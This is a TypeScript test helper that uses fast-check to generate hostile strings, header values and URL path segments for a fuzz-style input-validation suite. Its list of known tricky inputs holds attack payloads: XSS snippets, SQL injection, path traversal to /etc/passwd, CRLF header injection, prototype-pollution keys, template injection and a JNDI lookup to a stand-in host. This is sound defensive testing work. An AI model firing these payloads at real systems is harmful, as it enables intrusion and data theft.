import fc from 'fast-check';

// Hostile text for the hostile-input suite: values, header values, path segments.

/** Strings that broke parsers, databases, templates and URL handling somewhere before. */
const TRICKY = [
  '',
  ' ',
  '\u0000',
  'a\u0000b',
  '%00',
  '\r\nSet-Cookie: injected=1',
  '\t\n\v\f\r',
  '\u001b[31m',
  '\u0085\u2028\u2029',
  '\u202eevil',
  '\ud800',
  '\udfff\ud800',
  '\uffff\ufffe',
  'A\u030a',
  '\ufb00',
  'İı',
  'Straße',
  '😀'.repeat(40),
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  "' OR '1'='1",
  '"; DROP TABLE users; --',
  '../../../../etc/passwd',
  '__proto__',
  'constructor',
  'prototype',
  '${jndi:ldap://x.example/a}',
  '{{7*7}}',
  '%',
  '%zz',
  '%E0%A4%A',
  '%ED%A0%80',
  '+',
  '=&=&',
  'null',
  'undefined',
  'true',
  '[]',
  '{}',
  '-1',
  '1e309',
  'NaN',
  '0x41',
  'javascript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  'https://evil.example/callback',
  '//evil.example',
  'http://127.0.0.1:1/x',
  'a'.repeat(300),
  'a'.repeat(5000),
  '0'.repeat(64),
  'f'.repeat(64),
  '00000000-0000-0000-0000-000000000000',
] as const;

/** Printable ASCII and Latin-1 and tabs: what a header field value may carry (RFC 9110 5.5). */
const headerChar = fc.oneof(
  fc.integer({ min: 0x20, max: 0x7e }),
  fc.integer({ min: 0xa0, max: 0xff }),
  fc.constant(0x09),
);
export const headerValue = fc.string({
  unit: headerChar.map((code) => String.fromCharCode(code)),
  maxLength: 60,
});

const controlChar = fc.integer({ min: 0, max: 0x1f }).map((code) => String.fromCharCode(code));

/** Any text: random Unicode, lone surrogates, control characters, and the known-tricky ones. */
export const hostileString: fc.Arbitrary<string> = fc.oneof(
  { weight: 3, arbitrary: fc.string({ maxLength: 30 }) },
  { weight: 2, arbitrary: fc.string({ unit: 'binary', maxLength: 30 }) },
  { weight: 1, arbitrary: fc.string({ unit: controlChar, maxLength: 8 }) },
  {
    weight: 1,
    arbitrary: fc
      .array(fc.oneof(fc.integer({ min: 0xd800, max: 0xdfff }), fc.integer({ min: 0, max: 0xffff })), {
        maxLength: 8,
      })
      .map((units) => String.fromCharCode(...units)),
  },
  { weight: 4, arbitrary: fc.constantFrom(...TRICKY) },
);

/** A field's value: one worth trying for it (weighted), or anything. */
export function field(...worthTrying: (string | fc.Arbitrary<string>)[]): fc.Arbitrary<string> {
  const values = worthTrying.map((value) => (typeof value === 'string' ? fc.constant(value) : value));
  return values.length === 0
    ? hostileString
    : fc.oneof({ weight: 3, arbitrary: fc.oneof(...values) }, hostileString);
}

/** A path segment: a value worth trying (percent-encoded as a browser would) or hostile text. */
export function segment(...worthTrying: string[]): fc.Arbitrary<string> {
  return fc.oneof(
    { weight: 3, arbitrary: fc.constantFrom(...worthTrying) },
    { weight: 2, arbitrary: hostileString.map((value) => percentEncode(value).slice(0, 300)) },
    { weight: 1, arbitrary: fc.constantFrom('%zz', '%E0%A4%A', '..', '.', '%2e%2e', '%2F', 'a'.repeat(150)) },
  );
}

/** The path as given, or with a trailing slash, a doubled slash or other case. */
export function pathVariants(path: fc.Arbitrary<string>): fc.Arbitrary<string> {
  return fc
    .tuple(path, fc.constantFrom('as-is', 'as-is', 'as-is', 'slash', 'double', 'upper'))
    .map(([value, variant]) => {
      if (variant === 'slash') return `${value}/`;
      if (variant === 'double') return value.replace('/', '//');
      if (variant === 'upper') return value.toUpperCase();
      return value;
    });
}

/** Every byte of the UTF-8 form but the unreserved ones as %XX (lone surrogates become U+FFFD). */
export function percentEncode(value: string): string {
  return [...Buffer.from(value, 'utf8')]
    .map((byte) => {
      const char = String.fromCharCode(byte);
      return /[A-Za-z0-9\-._~]/.test(char) ? char : `%${byte.toString(16).toUpperCase().padStart(2, '0')}`;
    })
    .join('');
}
